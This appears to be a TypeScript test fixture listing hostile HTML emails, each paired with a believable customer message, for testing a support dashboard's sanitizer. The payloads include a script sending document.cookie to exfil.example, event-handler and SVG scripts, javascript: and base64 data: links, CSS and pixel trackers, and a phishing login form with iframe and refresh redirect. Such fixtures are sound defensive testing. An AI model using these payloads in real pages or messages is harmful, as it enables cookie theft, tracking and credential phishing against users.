// Real inboxes receive HTML crafted to attack whatever renders it. These payloads give the
// dashboard's sanitizer something concrete to defeat; each also carries believable text.

export interface HostilePayload {
  label: string;
  html: string;
  text: string;
}

export const HOSTILE: readonly HostilePayload[] = [
  {
    label: "script tag",
    text: "Hi, please see my order details below.",
    html: `<p>Hi, please see my order details below.</p><script>fetch('https://exfil.example/c?'+document.cookie)</script><p>Order summary attached.</p>`,
  },
  {
    label: "event handlers",
    text: "My package photo is below, the box was open when it arrived.",
    html: `<p>My package photo is below, the box was open when it arrived.</p><img src="x" onerror="alert(document.domain)"><div onmouseover="window.location='https://phish.example'">Hover for details</div>`,
  },
  {
    label: "svg",
    text: "Here is the logo you asked about for the custom embroidery.",
    html: `<p>Here is the logo you asked about for the custom embroidery.</p><svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg')"><script>alert(1)</script><a xlink:href="javascript:alert(2)"><circle r="40" fill="teal"/></a></svg>`,
  },
  {
    label: "css url",
    text: "Following up on my exchange request from last week.",
    html: `<style>body{background:url('https://tracker.example/css-open.png?m=1')}@import url('https://evil.example/x.css');</style><div style="background-image:url(https://tracker.example/bg.gif);width:1px">Following up on my exchange request from last week.</div><p style="behavior:url(evil.htc);position:fixed;top:0;left:0;width:100%;height:100%">Please reply soon.</p>`,
  },
  {
    label: "javascript link",
    text: "You can verify my purchase with the link below.",
    html: `<p>You can verify my purchase with the link below.</p><p><a href="javascript:alert('pwned')">Verify my order</a> or <a href="JaVaScRiPt&colon;alert(1)">view receipt</a> or <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">download</a></p>`,
  },
  {
    label: "tracking pixel",
    text: "Thanks for the quick reply! One more question about sizing.",
    html: `<p>Thanks for the quick reply! One more question about sizing.</p><img src="https://pixel.tracker.example/open.gif?uid=8812&amp;m=support" width="1" height="1" style="display:none" alt=""><img src="https://mailtrack.example/t/3f9a.png" width="0" height="0">`,
  },
  {
    label: "iframe and form",
    text: "Your account needs verification. Please log in to continue.",
    html: `<p>Your account needs verification. Please log in to continue.</p><iframe src="https://phish.example/frame" width="600" height="400"></iframe><form action="https://phish.example/login" method="post"><input name="email"><input type="password" name="password"><button>Log in</button></form><meta http-equiv="refresh" content="0;url=https://phish.example">`,
  },
  {
    label: "object and base",
    text: "Invoice for your records.",
    html: `<base href="https://evil.example/"><p>Invoice for your records.</p><object data="https://evil.example/payload.swf"></object><embed src="https://evil.example/x.swf"><a href="invoice.pdf" target="_blank">invoice.pdf</a><p><img src="cid:logo" srcset="https://tracker.example/1x.png 1x, https://tracker.example/2x.png 2x"></p>`,
  },
];
